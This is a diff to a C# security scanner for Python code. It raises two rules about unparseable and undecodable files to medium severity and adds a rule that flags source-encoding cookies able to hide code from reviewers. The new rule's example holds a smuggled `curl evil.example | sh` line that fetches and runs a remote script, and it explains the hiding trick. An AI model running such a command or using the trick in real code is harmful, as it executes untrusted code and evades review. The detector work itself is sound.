@@ -10,9 +10,9 @@ public sealed class SyntaxErrorRule : FileRule
 
     public override RuleInfo Info { get; } = new(
         Id: "BW001", Name: "syntax-error", Family: Family.Code,
-        Severity: Severity.Low, Confidence: Confidence.High, Cwe: null,
-        What: "Python files that Bulwark could not parse completely.",
-        Why: "Code that does not parse is only partly analysed: statements Bulwark could not recover are not checked, so a real problem may hide there. It may also be Python 2 code, or a template with a .py name.",
+        Severity: Severity.Medium, Confidence: Confidence.High, Cwe: null,
+        What: "Python files that Bulwark could not parse completely. After an error Bulwark goes on at the next line it can read, so the rest of the file is still checked; the finding says how many errors followed the first.",
+        Why: "Code that does not parse is only partly analysed: statements Bulwark could not recover are not checked, so a real problem may hide there. It may also be Python 2 code, or a template with a .py name. It is rated medium so that a scan filtered with `--severity medium` still says which files it could not fully read.",
         Example: "def f(:\n    pass",
         Fix: "Fix the syntax error, or exclude the file from the scan (`--exclude`, `exclude` in the configuration) if it is not Python.",
         References: ["https://docs.python.org/3/reference/grammar.html"])
@@ -30,13 +30,37 @@ public sealed class UndecodableFileRule : FileRule
 
     public override RuleInfo Info { get; } = new(
         Id: "BW002", Name: "undecodable-file", Family: Family.Code,
-        Severity: Severity.Low, Confidence: Confidence.High, Cwe: null,
-        What: "Python files whose bytes are not valid in their declared encoding (a PEP 263 coding cookie, or UTF-8 by default), or that could not be read.",
-        Why: "A file Bulwark cannot decode is not analysed at all.",
+        Severity: Severity.Medium, Confidence: Confidence.High, Cwe: null,
+        What: "Python files whose bytes are not valid in their declared encoding (a PEP 263 coding cookie, or UTF-8 by default), or that could not be read. Every encoding CPython accepts in a coding cookie is decoded as CPython decodes it; a file whose cookie names a codec Bulwark cannot decode exactly (ISO-2022-JP text with escape sequences) is reported with high severity, because Python runs it and Bulwark did not read it.",
+        Why: "A file Bulwark cannot decode is not analysed at all. It is rated medium (high when Python would run it) so that a scan filtered with `--severity medium` still names it.",
         Example: "# -*- coding: utf-8 -*-\nname = '\\xff'  # saved as Latin-1 bytes",
         Fix: "Save the file in the encoding it declares, or declare the encoding it is saved in.",
         References: ["https://peps.python.org/pep-0263/"]);
 
     public override bool AppliesTo(DiscoveredFile file) => false;
     public override void Check(SourceFile file, Rules.FileContext context) { }
+}
+
+/// <summary>BW003 — a coding cookie naming a codec that turns escape sequences into source code.</summary>
+public sealed class HidingSourceEncodingRule : CodeRule
+{
+    public override RuleInfo Info { get; } = new(
+        Id: "BW003", Name: "code-hiding-source-encoding", Family: Family.Code,
+        Severity: Severity.High, Confidence: Confidence.High, Cwe: 506,
+        What: "Python files whose coding cookie is `utf-7`, `unicode_escape` or `raw_unicode_escape`. Bulwark decodes them as Python does and analyses the decoded code; this rule says that the file is written so that people reading it see something else.",
+        Why: "With these codecs, escape sequences in the file become source text when Python reads it: `# \\nimport os\\nos.system(...)` is a comment in an editor and in a code review, but three statements to the interpreter. No legitimate project needs them; they are a known way to smuggle code past review.",
+        Example: "# coding: unicode_escape\nx = 1  # \\nimport os\\nos.system('curl evil.example | sh')",
+        Fix: "Save the file as UTF-8 and remove the cookie (or declare `utf-8`), and review what the decoded file really does.",
+        References: ["https://peps.python.org/pep-0263/", "https://cwe.mitre.org/data/definitions/506.html",
+                     "https://docs.python.org/3/library/codecs.html#text-encodings"]);
+
+    public override IReadOnlyList<Bulwark.Python.Syntax.NodeKind> Kinds { get; } = [Bulwark.Python.Syntax.NodeKind.Module];
+
+    public override void Check(Bulwark.Python.Syntax.Node node, CodeContext context)
+    {
+        if (Bulwark.Python.SourceDecoder.DeclaredCodec(context.File.Text.Text) is not { } declared) return;
+        if (declared.Codec is not ("utf_7" or "unicode_escape" or "raw_unicode_escape")) return;
+        context.Report(this, declared.Start, declared.End,
+            $"The file declares the `{declared.Codec}` source encoding: escape sequences in it become code that editors and reviews show as text.");
+    }
 }
